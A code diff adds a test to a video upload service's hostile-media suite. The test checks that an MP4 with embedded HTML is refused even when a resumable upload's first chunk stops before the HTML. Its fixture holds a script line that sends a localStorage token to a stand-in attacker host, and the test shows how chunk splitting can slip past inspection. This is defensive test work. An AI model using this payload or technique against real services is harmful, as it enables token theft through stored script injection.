@@ -12,7 +12,7 @@ import { startS3rver } from '../helpers/s3rver.ts';
 import { signUp, startTestServer, type TestServer } from '../helpers/server.ts';
 import { ffprobe, makeGood } from '../media/fixtures.ts';
 import { analysisRow, uploadedVideo, waitForStatus } from '../processing/helpers.ts';
-import { createSession, startTus } from '../uploads/helpers.ts';
+import { createSession, startTus, tusCreate, waitFor } from '../uploads/helpers.ts';
 import { frameMd5s, hlsPlaylist, makePolyglot, makeTsDecoy } from './hostile-media.ts';
 
 /**
@@ -103,6 +103,47 @@ describe('hostile media on local storage', () => {
       .executeTakeFirstOrThrow();
     expect(v).toMatchObject({ status: 'failed', error_code: 'AMBIGUOUS_MEDIA' });
     expect(await storedNames(server, v.id)).toEqual([]);
+  });
+
+  it('refuses HTML inside an MP4 head even when the first request was cut off before it', {
+    timeout: 60_000,
+  }, async () => {
+    const attacker = await signUp(server.url);
+    const mp4 = await readFile(await makeGood('no_audio', dir));
+    const ftyp = mp4.readUInt32BE(0);
+    const html = Buffer.from('<html><script>fetch("//evil.example/?"+localStorage.token)</script></html>');
+    const body = Buffer.concat([mp4.subarray(0, ftyp), html, mp4.subarray(ftyp)]);
+    const { files } = await createSession(attacker.api, [
+      { name: 'page.mp4', size: body.length, type: 'text/html' },
+    ]);
+    const file = files[0]!;
+    // The first request stops before the HTML: nothing to judge yet, so it is stored.
+    const created = await tusCreate(file, attacker.token, {
+      length: body.length,
+      body: body.subarray(0, 16),
+    });
+    expect(created.status).toBe(201);
+    const location = created.headers.get('location')!;
+    const rest = await fetch(location, {
+      method: 'PATCH',
+      headers: {
+        authorization: `Bearer ${attacker.token}`,
+        'tus-resumable': '1.0.0',
+        'upload-offset': '16',
+        'content-type': 'application/offset+octet-stream',
+      },
+      body: new Uint8Array(body.subarray(16)),
+    });
+    expect(rest.status).toBe(422);
+    expect(((await rest.json()) as { error: { code: string } }).error.code).toBe('AMBIGUOUS_MEDIA');
+    const v = await server.node.ctx.db
+      .selectFrom('videos')
+      .selectAll()
+      .where('id', '=', file.videoId)
+      .executeTakeFirstOrThrow();
+    expect(v).toMatchObject({ status: 'failed', error_code: 'AMBIGUOUS_MEDIA', mime_type: null });
+    expect(v.error_message).toMatch(/HTML page/);
+    expect((await attacker.api(`/api/videos/${file.videoId}/original`)).status).not.toBe(200);
   });
 
   it('refuses a plain HLS playlist named .mp4', { timeout: 120_000 }, async () => {
@@ -239,7 +280,8 @@ describe('hostile media on S3 storage', () => {
     const v = await ctx.db.selectFrom('videos').selectAll().where('id', '=', good).executeTakeFirstOrThrow();
     expect(v.status).toBe('uploaded');
     expect(v.mime_type).toBe('video/mp4');
-    expect((await ctx.store.head(keys.original(good)))?.contentType).toBe('video/mp4');
+    // Set off the reply path (a copy onto itself on S3): wait for it, without a fixed sleep.
+    await waitFor(async () => (await ctx.store.head(keys.original(good)))?.contentType === 'video/mp4');
 
     const bad = await arrived(user.user.id, Buffer.from(hlsPlaylist(`${targetUrl}/x.ts`)), 'video/mp4');
     await finishUpload(ctx, bad).catch(() => {});
